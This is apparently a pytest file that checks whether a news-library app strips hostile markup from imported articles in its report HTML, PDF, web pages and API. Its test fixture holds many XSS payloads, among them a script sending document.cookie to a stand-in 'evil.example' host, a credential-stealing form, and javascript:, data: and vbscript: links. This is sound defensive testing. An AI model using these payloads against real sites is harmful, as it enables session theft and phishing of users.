"""Hostile article content carried through to every place an article is shown: the annual
report (its HTML and its PDF), the library's pages and its API answer.

An article imported from the library's Markdown form carries every way of smuggling script
that an archived news page might: script and style elements, event handlers, ``javascript:``
and ``data:`` links (Markdown and HTML), an inline SVG holding a script, an iframe, a form,
and the same in its title and description. The report's HTML is parsed (no live markup), and
its PDF is read with pikepdf: no JavaScript, launch or submit actions, and every link an
http(s) or mailto address.
"""

from __future__ import annotations

import re
import shutil
import textwrap
import warnings
from datetime import date
from pathlib import Path

import pikepdf
import pytest
from lxml import html as lxml_html

from parity.library.importer import import_articles
from parity.library.samples import front_matter_file
from parity.reports.service import build_report, write_report

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

URL = "https://www.essex.police.uk/news/2023/02/numbat-nights/"
STORED = "https://essex.police.uk/news/2023/02/numbat-nights"  # as the importer normalises it
ARTICLE = dict(
    title='Numbat nights <script>alert("title")</script><svg onload="alert(1)"> begin',
    url=URL, area="Essex", published=date(2023, 2, 14),
    description='Volunteers <img src=x onerror="alert(\'description\')"> join the numbat '
                "nights.",
    body=textwrap.dedent("""
        Essex Police has begun numbat nights, a made-up scheme. Women make up 40% of our
        officers <script>alert('claim')</script> and the scheme wants more: a recruitment
        drive, with taster days for recruits.

        <script>document.location = "https://evil.example/?c=" + document.cookie</script>
        <style>body { background: url("https://evil.example/track.png") }</style>
        <img src="https://evil.example/x.png" onerror="alert('img')">
        <iframe src="javascript:alert('frame')"></iframe>
        <svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg script')</script>
        <a href="javascript:alert('svg link')"><text>numbat svg</text></a></svg>
        <svg onload="alert('svg')"><circle r="4"/></svg>
        <p onclick="alert('click')" style="position:fixed">Numbat click text.</p>
        <form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>
        <object data="https://evil.example/x.swf"></object><embed src="x.swf">
        <link rel="stylesheet" href="https://evil.example/x.css">
        <meta http-equiv="refresh" content="0; url=javascript:alert('refresh')">
        <base href="https://evil.example/">

        Read the [numbat guide](javascript:alert('md-link')), the
        <a href="JaVaScRiPt:alert('html-link')" onclick="alert('click')">numbat map</a>, the
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">numbat data</a>,
        the [numbat picture](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=), the
        <a href="vbscript:msgbox(1)">numbat basic</a> and the
        [numbat rota](https://www.essex.police.uk/numbat-rota).
        """),
)
# Elements that run, fetch or submit something. The report is self-contained: its own markup
# is one stylesheet, a meta charset and inline SVG charts (without scripts). A page's own
# markup adds the site's stylesheet link and its search and sign-in forms (to its own
# addresses).
LIVE = ("script", "iframe", "frame", "object", "embed", "form", "input", "button", "style",
        "link", "meta", "base", "img", "math", "svg//script")
REPORT_OWN = {"style", "meta"}
PAGE_OWN = {"style", "meta", "link", "form", "input", "button"}
SVG_SCRIPT = "//*[local-name()='script' and namespace-uri()='http://www.w3.org/2000/svg']"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster",
                  "{http://www.w3.org/1999/xlink}href"}
SCHEME = re.compile(r"^\s*([a-z][a-z0-9+.-]*):", re.I)


def safe_url(value: str) -> bool:
    """An http(s) or mailto address, or one on the same site (no scheme)."""
    found = SCHEME.match(value.replace("\x00", ""))
    return found is None or found.group(1).lower() in {"http", "https", "mailto"}


def assert_nothing_live(html: str, *, own: set[str] = frozenset()) -> lxml_html.HtmlElement:
    """Parse `html`: no element that runs, fetches or submits anything beyond the document's
    `own` kinds (whose addresses must be the site's own), no event handler, no link but
    http(s), mailto or the site's own; none of the article's script text reached the output."""
    doc = lxml_html.fromstring(html)
    for tag in LIVE:
        found = doc.xpath(f"//{tag}|{SVG_SCRIPT}" if tag == "svg//script" else f"//{tag}")
        if tag in own:
            for element in found:
                for name in ("href", "src", "action"):
                    value = element.get(name)
                    assert value is None or not SCHEME.match(value), \
                        lxml_html.tostring(element)[:300]
            continue
        assert not found, f"<{tag}> in the output: {lxml_html.tostring(found[0])[:300]!r}"
    for element in doc.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name, value)
            if name.lower() in URL_ATTRIBUTES:
                assert safe_url(value), (element.tag, name, value)
    for text in ("document.cookie", "alert('svg script')", "evil.example"):
        assert text not in html, text
    return doc


def _import(session, tmp_path: Path) -> None:  # noqa: ANN001
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "numbat.md").write_text(front_matter_file(**ARTICLE), encoding="utf-8")
    report = import_articles(session, path=folder)
    assert report.imported == 1 and not report.problems, report.problems
    session.commit()


def _words(element) -> str:  # noqa: ANN001
    return " ".join(" ".join(element.xpath(".//text()[not(ancestor::svg)]")).split())


@pytest.fixture
def report(wf_db, tmp_path):  # noqa: ANN001, ANN201
    _import(wf_db, tmp_path)
    return build_report(wf_db, year=2022, force="Essex", with_national=True)


def test_the_report_html_holds_nothing_live(report):
    html = report.html
    doc = assert_nothing_live(html, own=REPORT_OWN)
    # the report's own stylesheet is the only style element; the title shows as text, linked
    # to the article's address, in the national and the force section
    assert len(doc.xpath("//style")) == 1
    assert "evil" not in doc.xpath("//style")[0].text_content()
    national = doc.xpath("//div[@id='national-library']")[0]
    words = _words(doc)
    title = ARTICLE["title"]
    assert title in words, words[words.find("Numbat") - 200:][:600]
    links = [a for a in doc.xpath("//a") if a.text_content() == title]
    assert len(links) >= 2 and {a.get("href") for a in links} == {STORED}
    assert national.xpath(".//a[@href=$u]", u=STORED)
    # the claim in the body is checked, and shown as text
    assert "Women make up 40% of our officers" in words


@pytest.fixture(params=["weasyprint", "chromium"])
def pdf(wf_db, tmp_path, report, request):  # noqa: ANN001, ANN201
    if wf_db.bind.dialect.name != "sqlite":
        pytest.skip("the PDF is drawn from the HTML alone: one engine is enough")
    if request.param == "chromium" and shutil.which("chromium") is None:
        pytest.skip("chromium (scripts/debian-packages.txt) missing")
    result = write_report(report, out_dir=tmp_path / "out", pdf=True, engine=request.param)
    return Path(result["pdf"])


def _objects(pdf: pikepdf.Pdf):  # noqa: ANN202
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Dictionary):
            yield obj
        elif isinstance(obj, pikepdf.Stream):
            yield obj.stream_dict


ACTIONS_THAT_RUN = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm",
                    "/GoToR", "/GoToE", "/Rendition", "/Movie", "/Sound", "/RichMediaExecute"}


def test_the_report_pdf_holds_no_script_and_only_web_links(pdf):
    uris = []
    with pikepdf.open(pdf) as doc:
        root = doc.Root
        assert "/OpenAction" not in root and "/AA" not in root and "/AcroForm" not in root
        if "/Names" in root:
            assert "/JavaScript" not in root.Names and "/EmbeddedFiles" not in root.Names
        for obj in _objects(doc):
            keys = set(obj.keys())
            assert not keys & {"/JS", "/JavaScript", "/AA", "/Launch"}, keys
            if obj.get("/Type") == pikepdf.Name.Action or "/URI" in keys:
                assert str(obj.get("/S")) not in ACTIONS_THAT_RUN, dict(obj)
        for page in doc.pages:
            for annot in page.get("/Annots", []):
                action = annot.get("/A")
                if action is None:
                    continue
                assert str(action.S) in {"/URI", "/GoTo"}, dict(action)
                if action.S == pikepdf.Name.URI:
                    uris.append(str(action.URI))
    assert uris and all(re.match(r"(https?:|mailto:)", u) for u in uris), uris
    assert STORED in uris and not any("javascript" in u.lower() or u.startswith("data:")
                                      for u in uris)


def test_the_library_pages_and_api_hold_nothing_live(sqlite_url, tmp_path):  # noqa: ANN001
    from sqlalchemy.orm import Session

    from parity.library import service
    from parity.store import make_engine
    from parity.web.app import create_app

    engine = make_engine(sqlite_url)
    with Session(engine) as session:
        _import(session, tmp_path)
        article = service.get_article(session, ref=URL).id
    engine.dispose()
    with TestClient(create_app(sqlite_url)) as client:
        for address in ("/library", f"/library/articles/{article}", "/library?q=numbat",
                        "/library/forces/essex", "/forces/essex"):
            response = client.get(address)
            assert response.status_code == 200, (address, response.text[:300])
            assert "Numbat nights" in response.text, address
            assert_nothing_live(response.text, own=PAGE_OWN)
        for address in (f"/api/v1/library/articles/{article}", f"/library/articles/{article}.json"):
            answer = client.get(address)
            assert answer.status_code == 200, answer.text[:300]
            body = answer.json()
            body = body.get("article", body)
            assert_nothing_live(f"<div>{body['html']}</div>")
            assert "numbat rota" in body["html"] and "numbat guide" in body["html"]
            assert "<script>" not in body["text"] and "document.cookie" not in body["text"]


def test_drawing_the_pdf_fetches_nothing(tmp_path):
    """Were markup to slip into the report, the PDF could not read local files or call other
    servers: an image and a stylesheet, by absolute and by relative address, are not fetched
    (without the fetcher both images would be drawn and the stylesheet's words written)."""
    import struct
    import subprocess
    import zlib

    from parity.reports.pdf import write_pdf

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))
    (tmp_path / "secret.png").write_bytes(png)
    (tmp_path / "secret.css").write_text('body::after { content: "SECRET STYLESHEET" }')
    html = (f'<!doctype html><html lang="en"><head><title>t</title>'
            f'<link rel="stylesheet" href="file://{tmp_path}/secret.css">'
            f'<link rel="stylesheet" href="secret.css"></head><body><p>Visible words.</p>'
            f'<img src="file://{tmp_path}/secret.png" alt="a"><img src="secret.png" alt="b">'
            f'<img src="http://127.0.0.1:9/x.png" alt="c"></body></html>')
    out = tmp_path / "out.pdf"
    write_pdf(html, out)
    with pikepdf.open(out) as doc:
        images = [name for page in doc.pages
                  for name, obj in page.Resources.get("/XObject", {}).items()
                  if obj.get("/Subtype") == pikepdf.Name.Image]
    assert images == []
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert "Visible words." in text and "SECRET" not in text


def test_one_sanitiser_for_html_written_by_others():
    """nh3 is called in one module only: pages, API answers and the report share its rules."""
    src = Path(__file__).resolve().parents[2] / "src" / "parity"
    callers = sorted(p.relative_to(src).as_posix() for p in src.rglob("*.py")
                     if "import nh3" in p.read_text(encoding="utf-8"))
    assert callers == ["present/sanitise.py"]
